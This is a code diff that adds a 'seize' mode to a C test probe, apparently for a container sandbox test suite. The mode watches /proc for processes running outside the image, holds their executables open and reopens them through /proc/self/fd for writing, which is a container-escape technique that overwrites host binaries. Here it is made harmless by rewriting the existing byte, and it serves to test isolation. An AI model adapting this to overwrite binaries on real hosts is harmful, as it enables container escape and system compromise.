@@ -6,6 +6,7 @@
  *   probe fds                     prints its open file descriptors
  *   probe open FLAGS PATH         r or w; prints "ok" or the name of the errno
  *   probe args ARG...             prints its arguments, each followed by a null byte
+ *   probe seize                   lies in wait for programs that are not the image's, and writes to them
  */
 
 #define _GNU_SOURCE
@@ -15,6 +16,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <unistd.h>
 
@@ -83,6 +85,66 @@ static int list_fds(void) {
     return 0;
 }
 
+enum { most_held = 64 };
+
+/* Programs that are held open, so that they can be written to when nobody executes them any more. */
+static int held[most_held];
+static struct stat known[most_held];
+static int held_count;
+
+static void hold(const char *path) {
+    char name[4096] = {0};
+    struct stat info;
+    if (readlink(path, name, sizeof name - 1) < 0 || strncmp(name, "/bin/", 5) == 0 || held_count == most_held) {
+        return;
+    }
+    const int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0 || fstat(fd, &info) < 0) {
+        return;
+    }
+    for (int i = 0; i < held_count; ++i) {
+        if (known[i].st_dev == info.st_dev && known[i].st_ino == info.st_ino) {
+            close(fd);
+            return;
+        }
+    }
+    printf("seen %s\n", name);
+    known[held_count] = info;
+    held[held_count++] = fd;
+}
+
+/* Writes the byte that is there already: an attack that does no harm when it succeeds. */
+static void overwrite(int fd) {
+    char path[64];
+    char byte;
+    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+    const int writable = open(path, O_WRONLY | O_CLOEXEC);
+    if (writable >= 0 && pread(fd, &byte, 1, 0) == 1 && pwrite(writable, &byte, 1, 0) == 1) {
+        char name[4096] = {0};
+        printf("written %s\n", readlink(path, name, sizeof name - 1) < 0 ? "?" : name);
+    }
+    close(writable);
+}
+
+static _Noreturn void seize(void) {
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    printf("ready\n");
+    for (;;) {
+        DIR *directory = opendir("/proc");
+        for (struct dirent *entry; directory != NULL && (entry = readdir(directory)) != NULL;) {
+            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') {
+                char path[300];
+                snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+                hold(path);
+            }
+        }
+        closedir(directory);
+        for (int i = 0; i < held_count; ++i) {
+            overwrite(held[i]);
+        }
+    }
+}
+
 int main(int argc, char **argv) {
     if (argc >= 3 && strcmp(argv[1], "call") == 0) {
         return make_call(argc, argv);
@@ -99,6 +161,9 @@ int main(int argc, char **argv) {
             fwrite(argv[i], 1, strlen(argv[i]) + 1, stdout);
         }
         return 0;
+    }
+    if (argc == 2 && strcmp(argv[1], "seize") == 0) {
+        seize();
     }
     fprintf(stderr, "probe: bad arguments\n");
     return 2;
